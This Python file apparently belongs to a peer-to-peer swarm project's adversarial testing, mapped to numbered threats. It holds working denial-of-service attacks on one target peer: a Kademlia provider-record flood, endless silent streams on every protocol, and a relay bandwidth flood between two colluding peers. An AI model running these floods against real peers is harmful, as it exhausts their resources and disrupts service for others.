"""Streams that no member opens, to one target for ever."""

from __future__ import annotations

import asyncio
import os
import time
from itertools import count

from hivemind.p2p import P2P, PeerID
from hivemind.utils.multiaddr import Multiaddr

from peer.exchange.group.streams import REDUCE_PROTOCOL
from peer.p2p.dht.whereabouts import KADEMLIA
from peer.p2p.protobuf import BYTES_FIELD, INT_FIELD, MANY, ONE, delimited, message_classes, read_delimited
from peer.p2p.reachability import circuit_messages
from peer.p2p.reachability.circuit_messages import HOP
from peer.p2p.reachability.dialback import DIALBACK_PROTOCOL
from peer.p2p.reachability.relay import PING_SECONDS, RELAY_PROTOCOL, Granted, Ping, Reserve
from peer.p2p.stream import Stream, StreamLost
from peer.swarm.grouping.known_members import GATHER_PROTOCOL
from peer.swarm.pairing.proposals import MEET_PROTOCOL
from peer.swarm.state_transfer.donor import STATE_PROTOCOL

PROTOCOLS = (
    *(MEET_PROTOCOL, STATE_PROTOCOL, GATHER_PROTOCOL, REDUCE_PROTOCOL),
    *(DIALBACK_PROTOCOL, RELAY_PROTOCOL, HOP, KADEMLIA),
)
CHUNK = bytes(64 * 1024)
PATIENCE = 10.0  # seconds for one message
SAID = 1.0  # seconds between two lines

_KADEMLIA = message_classes(
    "provider",
    {
        "Peer": [("id", 1, BYTES_FIELD, ONE), ("addrs", 2, BYTES_FIELD, MANY)],
        "Message": [("type", 1, INT_FIELD, ONE), ("key", 2, BYTES_FIELD, ONE), ("providerPeers", 9, "Peer", MANY)],
    },
)


class Tally:
    """``tried``, and of these ``taken``."""

    def __init__(self) -> None:
        self.tried = self.taken = 0
        self._said = time.monotonic()

    def count(self, taken: int) -> None:
        self.tried += 1
        self.taken += taken
        if time.monotonic() > self._said + SAID:
            self._said = time.monotonic()
            print(f"tried {self.tried}, taken {self.taken}", flush=True)


async def providers(p2p: P2P, target: PeerID, tally: Tally) -> None:
    """Threat 3: ADD_PROVIDER to Kademlia."""
    _, reader, writer = await p2p.call_binary_stream_handler(target, KADEMLIA)
    while not reader.at_eof():
        peer = {"id": p2p.peer_id.to_bytes(), "addrs": [Multiaddr("/ip4/1.2.3.4/tcp/5").to_bytes()]}
        key = b"\x12\x20" + os.urandom(32)
        writer.write(delimited(_KADEMLIA["Message"](type=2, key=key, providerPeers=[peer])))
        await writer.drain()
        tally.count(0)


async def streams(p2p: P2P, target: PeerID, tally: Tally) -> None:
    """Threats 13 and 20: streams of every protocol on which it says nothing."""
    held = []
    for number in count():
        held.append(await p2p.call_binary_stream_handler(target, PROTOCOLS[number % len(PROTOCOLS)]))
        tally.count(0)


async def relay(holder: P2P, caller: P2P, target: PeerID, tally: Tally) -> None:
    """Threat 16: two outsiders send each other as much as the target relays. Neither daemon knows of circuits: two that
    do would find a direct way. :func:`read_circuits` serves the holder.
    """
    _, reader, writer = await holder.call_binary_stream_handler(target, RELAY_PROTOCOL)
    reservation = Stream(reader, writer, remote=target.to_base58(), initiator=True)
    await reservation.send(Reserve(), PATIENCE)
    await reservation.receive(Granted, PATIENCE)
    flood = asyncio.ensure_future(_flood(holder.peer_id, caller, target, tally))
    try:
        for number in count():
            await reservation.send(Ping(number=number), PATIENCE)
            await asyncio.wait({flood}, timeout=PING_SECONDS)
            if flood.done():
                return flood.result()
    finally:
        flood.cancel()
        reservation.close()


async def _flood(holder: PeerID, caller: P2P, target: PeerID, tally: Tally) -> None:
    _, reader, writer = await caller.call_binary_stream_handler(target, HOP)
    classes = circuit_messages.CIRCUIT_MESSAGES
    writer.write(delimited(classes["HopMessage"](type=circuit_messages.CONNECT, peer={"id": holder.to_bytes()})))
    answer = await read_delimited(classes["HopMessage"], reader, circuit_messages.CAP)
    if answer.status != circuit_messages.OK:
        raise StreamLost(f"no circuit: status {answer.status}")
    while not reader.at_eof():
        writer.write(CHUNK)
        await writer.drain()
        tally.count(1)


async def read_circuits(_: object, reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
    """The holder's side: takes every circuit, and all that comes through it."""
    classes = circuit_messages.CIRCUIT_MESSAGES
    await read_delimited(classes["StopMessage"], reader, circuit_messages.CAP)
    writer.write(delimited(classes["StopMessage"](type=circuit_messages.STOP_STATUS, status=circuit_messages.OK)))
    while await reader.read(len(CHUNK)):
        pass
